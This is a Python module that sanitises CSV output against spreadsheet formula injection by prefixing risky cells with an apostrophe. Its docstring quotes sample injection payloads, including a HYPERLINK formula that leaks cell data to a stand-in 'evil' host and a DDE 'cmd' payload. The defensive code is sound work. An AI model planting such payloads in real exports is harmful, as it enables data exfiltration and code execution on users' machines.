"""Every CSV file Sitrep writes goes through here, so that none can run code
when an analyst opens it in a spreadsheet.

Article text is data from the outside world: a title like
``=HYPERLINK("http://evil/?"&A1,"Click")``, ``+cmd|' /C calc'!A0`` or
``@SUM(A1:A9)`` would run as a formula in Excel or LibreOffice.  A text cell
that starts like a formula (``=``, ``+``, ``-``, ``@``, a tab or a carriage
return, OWASP's list) gets a leading apostrophe, which spreadsheets show as
text; numbers stay numbers, dates become ISO 8601, ``None`` and NaN become
empty cells.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime
from typing import Any, TextIO

__all__ = ["FORMULA_START", "csv_bytes", "spreadsheet_cell", "write_csv"]

FORMULA_START: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as a cell a spreadsheet opens as data, never as a formula."""
    if value is None:
        return ""
    if isinstance(value, float) and math.isnan(value):
        return ""
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    if isinstance(value, bool) or isinstance(value, (int, float)):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_START):
        return "'" + text
    return text


def write_csv(rows: Iterable[Mapping[str, Any]], *, fieldnames: Sequence[str], out: TextIO) -> None:
    """A header of ``fieldnames`` then one line per row (missing keys are
    empty cells), every cell through :func:`spreadsheet_cell`.  Lines end
    in CRLF (RFC 4180): Python's writer quotes a field holding a line-end
    character only if that character is in the line terminator, so a bare
    ``\r`` in a cell would otherwise break the row."""
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(fieldnames)
    for row in rows:
        writer.writerow([spreadsheet_cell(row.get(name)) for name in fieldnames])


def csv_bytes(rows: Iterable[Mapping[str, Any]], *, fieldnames: Sequence[str],
              bom: bool = True) -> bytes:
    """The CSV of :func:`write_csv` as UTF-8 bytes, with a byte-order mark by
    default (Excel then reads non-ASCII names right)."""
    out = io.StringIO()
    write_csv(rows, fieldnames=fieldnames, out=out)
    return out.getvalue().encode("utf-8-sig" if bom else "utf-8")
